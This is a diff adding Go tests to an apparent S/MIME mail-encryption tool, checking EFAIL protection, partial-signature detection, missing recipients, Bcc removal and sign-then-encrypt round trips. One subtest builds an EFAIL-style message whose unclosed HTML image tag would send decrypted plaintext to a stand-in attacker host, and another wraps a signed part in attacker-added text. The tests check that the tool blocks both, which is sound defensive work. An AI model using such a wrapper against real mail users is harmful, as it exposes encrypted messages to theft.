@@ -587,3 +587,96 @@ func parseMessage(t *testing.T, msg []byte) *mime.Message {
 	t.Cleanup(func() { m.Close() })
 	return m
 }
+
+// TestSMIMEMessageRules checks the protocol-independent rules with S/MIME
+// messages: root-only decryption (EFAIL), partial signatures, missing
+// recipients, Bcc, sign-then-encrypt.
+func TestSMIMEMessageRules(t *testing.T) {
+	p := newSMIMEPeers(t)
+	msg := smimeMessage("alice@example.org", "bob@example.org")
+
+	t.Run("efail-wrapped-ciphertext", func(t *testing.T) {
+		enc, _ := p.ms(msg, 0, "encrypt", "--smime")
+		_, blobPart := splitHeader(enc)
+		wrapped := "From: mallory@example.org\r\nTo: alice@example.org\r\nMIME-Version: 1.0\r\n" +
+			"Content-Type: multipart/mixed; boundary=\"X\"\r\n\r\n--X\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n" +
+			"--X\r\nContent-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
+			string(blobPart) + "\r\n--X\r\nContent-Type: text/html\r\n\r\n\">\r\n--X--\r\n"
+		code, out, errOut := p.msCode([]byte(wrapped), "decrypt", "--json")
+		if code != 1 || len(out) != 0 || !bytes.Contains(errOut, []byte(`"status":"partial"`)) {
+			t.Fatalf("wrapped ciphertext: exit %d, stdout %q, report %s", code, out, errOut)
+		}
+		out, _ = p.ms([]byte(wrapped), 0, "decrypt", "--part", "2")
+		if !hasGreeting(out) || bytes.Contains(out, []byte("attacker")) {
+			t.Fatalf("--part 2:\n%s", out)
+		}
+	})
+	t.Run("partial-signature", func(t *testing.T) {
+		signed, _ := p.ms(msg, 0, "sign", "--smime")
+		head, body := splitHeader(signed)
+		ct := headerValue(head, "Content-Type")
+		wrapped := "From: alice@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n" +
+			"Content-Type: multipart/mixed; boundary=\"Y\"\r\n\r\n--Y\r\nContent-Type: text/plain\r\n\r\nForwarded text the attacker added.\r\n" +
+			"--Y\r\nContent-Type: " + ct + "\r\n\r\n" + string(body) + "\r\n--Y--\r\n"
+		if rep := p.verifyJSON([]byte(wrapped), 1); rep.Status != mailseal.StatusPartial || rep.SignedPart != "2" {
+			t.Fatalf("report %+v", rep)
+		}
+		if rep := p.verifyJSON(msg, 1); rep.Status != mailseal.StatusUnsigned {
+			t.Fatalf("unsigned: %+v", rep)
+		}
+	})
+	t.Run("missing-recipient", func(t *testing.T) {
+		m := smimeMessage("alice@example.org", "bob@example.org, nobody@example.org")
+		code, out, errOut := p.msCode(m, "encrypt", "--smime")
+		if code != 3 || len(out) != 0 || !bytes.Contains(errOut, []byte("nobody@example.org")) || bytes.Contains(errOut, []byte("bob@example.org,")) {
+			t.Fatalf("exit %d, stdout %d bytes, stderr %s", code, len(out), errOut)
+		}
+	})
+	t.Run("bcc-dropped-and-encrypted-to", func(t *testing.T) {
+		m := []byte("From: alice@example.org\r\nTo: bob@example.org\r\nBcc: carol@example.org\r\nSubject: s\r\n" + smimeBody)
+		enc, _ := p.ms(m, 0, "encrypt", "--smime", "--no-self")
+		if bytes.Contains(enc, []byte("Bcc")) || bytes.Contains(enc, []byte("carol@")) {
+			t.Fatal("Bcc in the output")
+		}
+		if _, err := p.opensslErr(enc, "cms", "-decrypt", "-recip", p.path("carol.pem"), "-inkey", p.path("carol.key")); err != nil {
+			t.Fatalf("the Bcc recipient cannot decrypt: %v", err)
+		}
+		if code, _, _ := p.msCode(enc, "decrypt"); code != 3 {
+			t.Fatalf("--no-self: the sender decrypted (exit %d)", code)
+		}
+	})
+	t.Run("sign-then-encrypt-roundtrip", func(t *testing.T) {
+		for _, args := range [][]string{{"--sign"}, {"--sign", "--opaque"}} {
+			enc, _ := p.ms(msg, 0, append([]string{"encrypt", "--smime"}, args...)...)
+			out, errOut := p.ms(enc, 0, "decrypt", "--json")
+			var rep mailseal.Report
+			if err := json.Unmarshal(errOut, &rep); err != nil {
+				t.Fatal(err)
+			}
+			if rep.Status != mailseal.StatusGood || !rep.Encrypted || rep.Integrity != "gcm" || len(rep.Signers) != 1 || !hasGreeting(out) {
+				t.Fatalf("%v: report %+v\n%s", args, rep, out)
+			}
+			if bytes.Contains(out, []byte("application/pkcs7-mime")) {
+				t.Fatalf("%v: the opaque signed layer was not unwrapped:\n%s", args, out)
+			}
+		}
+	})
+}
+
+// splitHeader splits a message at its first empty line.
+func splitHeader(msg []byte) (head, body []byte) {
+	norm := bytes.ReplaceAll(msg, []byte("\r\n"), []byte("\n"))
+	i := bytes.Index(norm, []byte("\n\n"))
+	return norm[:i+1], norm[i+2:]
+}
+
+// headerValue returns an unfolded header field value.
+func headerValue(head []byte, name string) string {
+	unfolded := strings.ReplaceAll(strings.ReplaceAll(string(head), "\n\t", " "), "\n ", " ")
+	for _, line := range strings.Split(unfolded, "\n") {
+		if k, v, ok := strings.Cut(line, ":"); ok && strings.EqualFold(k, name) {
+			return strings.TrimSpace(v)
+		}
+	}
+	return ""
+}
